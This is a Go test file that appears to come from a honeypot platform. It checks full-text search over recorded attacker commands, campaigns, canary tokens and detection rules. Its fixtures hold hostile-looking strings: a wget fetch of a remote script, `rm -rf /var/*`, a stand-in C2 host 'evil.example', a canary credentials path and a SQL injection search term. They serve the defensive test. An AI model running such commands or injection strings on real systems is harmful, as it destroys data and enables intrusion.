package storagetest

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"decnetgraph/storage"
)

// searchGraph has texts that look alike, in every field that is searched.
func searchGraph() Graph {
	g := Graph{
		Campaigns: []storage.Campaign{
			with(campaign("c1c1c1c1-0000-4000-8000-00000000ABCD", ""), func(c *storage.Campaign) {
				c.Notes, c.UpdatedAt = new("Wget botnet — naïve ☂ 100% _sure_\nsecond line"), at(7)
				c.JA3Hashes, c.C2Endpoints = []string{"95352d9f71f1ed53b2c59a7edaef7fcb", "ffff"}, []string{"203.0.113.9:4444", "[2001:db8::9]:80", "evil.example:443"}
				c.HASSHHashes, c.TLSCertSHA256, c.PayloadSimhashes = []string{"hassh-wget"}, []string{"cert"}, []string{"00ff00ff00ff00ff"}
			}),
			campaign("c2", "c1c1c1c1-0000-4000-8000-00000000ABCD"),
		},
		Identities: []storage.Identity{
			with(identity("17c00f1ea8d2b64ce144a24382631f82", "", ""), func(i *storage.Identity) {
				i.Notes, i.KDDigraphSimhash = new("İstanbul ſtraße WGET \x00"), new("00ff95352d9f71f1")
				i.Notes = new("İstanbul ſtraße WGET")
				i.JA3Hashes, i.JA4HHashes, i.JA4QUICHashes = []string{"95352d9f71f1ed53b2c59a7edaef7fcb"}, []string{"ge11cn20"}, []string{"q13d0310h3"}
				i.C2Endpoints, i.IPv6LinkLocalIIDs = []string{"2001:db8:1::7"}, []storage.IPv6InterfaceID{{IID: new("0211:22ff:fe33:4455")}, {}}
			}),
		},
		Definitions: []DefinitionRow{
			searchedRule("R0014", "rule_id: R0014\nname: wget from a shell\ndescription: |\n  wget\n", "wget from a shell", at(4)),
			searchedRule("R0015", "name: 'it''s \"quoted\"'\n", `it's "quoted"`, at(5)),
		},
		Blobs:  []storage.CanaryBlob{{UUID: "b1", SHA256: strings.Repeat("ab", 32), Filename: "Pläne WGET.docx", ContentType: "x", UploadedBy: "u", UploadedAt: at(3)}},
		Prints: []FingerprintState{{FingerprintState: storage.FingerprintState{UUID: "p1", Port: 22, ProbeType: "hassh", LastHash: "hassh-wget", LastSeen: at(11)}, AttackerUUID: "a00"}},
	}
	g.Tokens = []storage.CanaryToken{{UUID: "t1", Kind: "http", DeckyName: "Decky-01", PlacementPath: "/home/wget/.aws/credentials", CallbackToken: "slug123", PlacedAt: at(9), CreatedBy: "system", State: "planted"}}
	g.Triggers = []storage.CanaryTrigger{
		{UUID: "h1", TokenUUID: "t1", OccurredAt: at(12), SrcIP: "2001:0DB8::0:9", UserAgent: new("Wget/1.21"), RequestPath: new("/c/slug123"), RawHeaders: storage.JSON(`{}`)},
		{UUID: "h2", TokenUUID: "t1", OccurredAt: at(12), SrcIP: "::ffff:198.51.100.77", DNSQname: new("slug123.canary.example"), RawHeaders: storage.JSON(`{}`)},
	}
	ips := []string{"198.51.100.7", "198.51.100.70", "198.51.10.7", "2001:db8::1", "2001:db8:ffff::1", "2001:DB8:0:0:0:0:0:1", "2001:db9::1", "10.198.51.100", "::ffff:198.51.100.8"}
	commands := []string{
		"wget http://198.51.100.7/x.sh", "WGET -q http://[2001:db8::1]/", `echo "w\get" > 'x'; rm -rf /var/*`, "wget", "cd /tmp && ./wgetter", "echo 你好 🐍 wGeT",
		"100% _a_ \\ / <b>wget</b> &amp;", "tab\there", "line\nbreak wget", "", "ls", strings.Repeat("x", 20_000) + "wget" + strings.Repeat("y", 300), "nul\x00byte wget",
	}
	for n, ip := range ips {
		a := attacker(fmt.Sprintf("a%02d", n), "")
		a.IP, a.LastSeen, a.Deckies = ip, at(n/2), []string{"decky-01", fmt.Sprintf("décky-%d", n)}
		a.PTRRecord, a.ASName, a.ASN = new(fmt.Sprintf("host-198-51-100-%d.wget.example", n)), new("OVH SAS — Wget"), new(64500+n)
		a.BGPPrefix = new("198.51.100.0/24")
		for k := range 5 {
			c := storage.Command{Service: new("ssh"), Decky: new("decky-01"), Command: new(commands[(n*3+k)%len(commands)]), Timestamp: new(at(n * k % 7))}
			if k == 4 {
				c.Timestamp = nil
			}
			a.Commands = append(a.Commands, c)
		}
		a.Fingerprints = []storage.Fingerprint{{Payload: storage.JSON(fmt.Sprintf(`{"fingerprint_type":"wget","ja3":"95352d9f71f1ed53b2c59a7edaef7fc%d","nested":[{"v":"Wget é"}],"z":7}`, n))}}
		g.Attackers = append(g.Attackers, a)
	}
	g.Tags = []storage.TTPTag{
		with(tag("9b8f1c1e-0000-5000-8000-00000000abcd", "", "a00"), func(t *storage.TTPTag) { t.SessionID = new("session-WGET") }),
		with(tag("9b8f1c1e-0000-5000-8000-00000000abce", "", "a01"), func(t *storage.TTPTag) { t.SessionID = new("session-WGET") }),
	}
	for n, name := range []string{"tagged-only", "Tagged-Only", "täGGed-only", "tagged-only ", "tagged-wget", "decky-01", ""} { // deckies that only tags name
		g.Tags = append(g.Tags, with(tag(fmt.Sprintf("9b8f1c1e-0000-5000-8000-00000000ac%02d", n), "", "a01"), func(t *storage.TTPTag) { t.Decky = &name }))
	}
	return g
}

// searchCatalogue are texts that no database has.
var searchCatalogue = []storage.CatalogueText{
	{AttackID: "T1105", Text: "T1105"}, {AttackID: "T1105", Name: true, Text: "Ingress Tool Transfer (wget)"}, {AttackID: "T1110.001", Text: "T1110.001"},
}

// searchTerms are what people search for, and parts of texts, some from the middle of a character.
func searchTerms(all []searched) []string {
	terms := []string{
		"wget", "WGET", "wget http", "198.51.100.", "198.51.100.7", "198.51.100.0/24", "198.51.100.64/26", "0.0.0.0/0", "::/0", "::ffff:198.51.100.0/120", "2001:db8::/32",
		"2001:db8::1", "2001:DB8:0::1", "2001:db8:", "2001:db8::", "2001:db8:ffff:", "203.0.113.9", "203.0.113.0/24", "::ffff:198.51.100.7", "ff", "é", "éc", "100%", "_a_", `\`, `\ `, `w\get`,
		"'x'", `"`, `"w`, "<b>", "\nb", "e\t", "t\th", "你好", "🐍", "AS645", "64501", "as64500", "s6450", "T1110", "t1105", "R0014", "it's", "decky", "DÉCKY", "décky-3", "Pläne", ".docx",
		"slug123", "session-wget", "session", "9B8F1C1E-0000-5000-8000-00000000ABCD", "9b8f1c1e", "00ff95352d9f71f1", "95352d", "İstanbul", "istanbul", "straße", "STRASSE", "K", "zz", "no such text",
		"xxxxwget", "xwgety", "\x00b", "byte wget", "aa", strings.Repeat("x", 256), "0211:22ff:", "[2001:db8::9]:80", "tagged", "tägg", "only ", "Y ", "a0", "second line", "%' OR 1=1 --", "ja3", "fingerprint_type",
	}
	random := rand.New(rand.NewPCG(1, 2))
	for range 60 {
		text := all[random.IntN(len(all))].Text
		if len(text) < 2 {
			continue
		}
		from := random.IntN(len(text) - 1)
		terms = append(terms, strings.ToValidUTF8(text[from:min(len(text), from+2+random.IntN(20))], "�"))
	}
	return terms
}

// testSearch compares searches with the model, before the index has the rows and after.
func testSearch(t *testing.T, open Open) {
	g := searchGraph()
	s := open(t, g)
	requireSearches(t, s, g)
	t.Run("a span of time", func(t *testing.T) { testSearchSpan(t, s, searchModel(g, searchCatalogue)) })
	t.Run("a filter", func(t *testing.T) { testSearchFilter(t, s, g) })
	t.Run("pages from either end are the list", func(t *testing.T) { testSearchPages(t, s, searchModel(g, searchCatalogue)) })
	t.Run("a search that cannot be is refused", func(t *testing.T) {
		for _, text := range []string{"", "w", "  ", strings.Repeat("x", 257), "198.51.100.0/33", "2001:db8::/129"} {
			_, err := s.Search(storage.SearchQuery{Text: text}).Page(t.Context(), fleet, storage.Page{Limit: 1})
			require.ErrorIs(t, err, storage.ErrInvalid, text)
		}
	})
	t.Run("a cursor of another search is refused", func(t *testing.T) {
		page, err := s.Search(storage.SearchQuery{Text: "wget"}).Page(t.Context(), fleet, storage.Page{Limit: 1})
		require.NoError(t, err)
		at := page[""].Position(0)
		for _, q := range []storage.SearchQuery{{Text: "wge"}, {Text: "wget", Order: storage.SearchNewest}, {Text: "wget", Kinds: []storage.SearchKind{storage.SearchCommand}}, {Text: "wget", HitFilter: storage.HitFilter{Matches: []storage.SearchMatch{storage.MatchPart}}}} {
			_, err := s.Search(q).Page(t.Context(), fleet, storage.Page{Limit: 1, After: &at})
			require.ErrorIs(t, err, storage.ErrInvalid)
		}
	})
	t.Run("nothing runs after the request has ended", func(t *testing.T) {
		_, err := s.Search(storage.SearchQuery{Text: "wget"}).Page(cancelled(t.Context()), fleet, storage.Page{Limit: 1})
		require.ErrorIs(t, err, context.Canceled)
	})
}

// requireSearches compares the hits of many texts with those of the model.
func requireSearches(t *testing.T, s *storage.Store, g Graph) {
	t.Helper()
	all := searchModel(g, searchCatalogue)
	for n, text := range searchTerms(all) {
		if len([]rune(text)) < 2 {
			continue
		}
		kinds := [][]storage.SearchKind{nil, {storage.SearchCommand}, {storage.SearchAttacker, storage.SearchDecky, storage.SearchTechnique}}[n%3]
		for _, order := range []storage.SearchOrder{storage.SearchRelevance, storage.SearchNewest} {
			want := find(all, text, kinds, order)
			list := s.Search(storage.SearchQuery{Text: text, Kinds: kinds, Order: order, Catalogue: searchCatalogue, Notice: func(m string) { t.Errorf("%q: %s", text, m) }})
			page, err := list.Page(t.Context(), fleet, storage.Page{Limit: 500})
			require.NoError(t, err, text)
			got := make([]foundText, 0, len(want))
			for _, h := range page[""].Rows {
				got = append(got, foundText{h.Kind, h.Key, h.Field, h.Text, h.Match, h.Start, h.End, h.SeenAt})
			}
			same(t, append([]foundText{}, want...), got, fmt.Sprintf("%q in %v by %s", text, kinds, order))
			counts, err := list.Count(t.Context(), fleet)
			require.NoError(t, err)
			require.Equal(t, len(want), counts[""], text)
		}
	}
}

// testSearchSpan searches for hits of a span of time.
func testSearchSpan(t *testing.T, s *storage.Store, all []searched) {
	t.Helper()
	for _, span := range []storage.InstantRange{{From: new(at(2))}, {Until: new(at(2))}, {From: new(at(1)), Until: new(at(4))}, {From: new(at(1)), Until: new(at(1))}, {}} {
		var want []foundText
		for _, h := range find(all, "wget", nil, storage.SearchNewest) {
			timed := h.Seen != nil && (span.From == nil || !h.Seen.Before(*span.From)) && (span.Until == nil || h.Seen.Before(*span.Until))
			if timed || span.From == nil && span.Until == nil {
				want = append(want, h)
			}
		}
		list := s.Search(storage.SearchQuery{Text: "wget", Order: storage.SearchNewest, HitFilter: storage.HitFilter{Seen: &span}, Catalogue: searchCatalogue})
		page, err := list.Page(t.Context(), fleet, storage.Page{Limit: 500})
		require.NoError(t, err)
		var got []foundText
		for _, h := range page[""].Rows {
			got = append(got, foundText{h.Kind, h.Key, h.Field, h.Text, h.Match, h.Start, h.End, h.SeenAt})
		}
		same(t, want, got, "in a span of time")
		counts, err := list.Count(t.Context(), fleet)
		require.NoError(t, err)
		require.Equal(t, len(want), counts[""])
	}
	_, err := s.Search(storage.SearchQuery{Text: "wget", HitFilter: storage.HitFilter{Seen: &storage.InstantRange{From: new(at(2)), Until: new(at(1))}}}).Page(t.Context(), fleet, storage.Page{Limit: 1})
	require.ErrorIs(t, err, storage.ErrInvalid)
}

func testSearchPages(t *testing.T, s *storage.Store, all []searched) {
	t.Helper()
	for _, order := range []storage.SearchOrder{storage.SearchRelevance, storage.SearchNewest} {
		want := find(all, "wget", nil, order)
		list := s.Search(storage.SearchQuery{Text: "wget", Order: order, Catalogue: searchCatalogue})
		for _, backward := range []bool{false, true} {
			var got []foundText
			for p := (storage.Page{Limit: 7, Backward: backward}); ; {
				found, err := list.Page(t.Context(), fleet, p)
				require.NoError(t, err)
				page := found[""]
				var rows []foundText
				for _, h := range page.Rows {
					rows = append(rows, foundText{h.Kind, h.Key, h.Field, h.Text, h.Match, h.Start, h.End, h.SeenAt})
				}
				if backward {
					got = append(rows, got...)
				} else {
					got = append(got, rows...)
				}
				if !page.More {
					break
				}
				first, last := page.Position(0), page.Position(len(rows)-1)
				if p.After, p.Before = &last, nil; backward {
					p.After, p.Before = nil, &first
				}
			}
			same(t, want, got, fmt.Sprintf("by %s, backward %t", order, backward))
		}
		skipped, err := list.Page(t.Context(), fleet, storage.Page{Limit: 3, Offset: 5})
		require.NoError(t, err)
		require.Equal(t, want[5].Key, skipped[""].Rows[0].Key)
	}
}

// searchedRule is a row of ttp_rule whose text states a name.
func searchedRule(id, text, name string, updated time.Time) DefinitionRow {
	return DefinitionRow{YAML: text, Rule: storage.Rule{
		RuleID: id, RuleVersion: new(1), SourcePath: new("rules/" + id + ".yaml"), UpdatedAt: &updated, UpdatedBy: new("git"),
		RuleDefinition: storage.RuleDefinition{Name: &name},
	}}
}
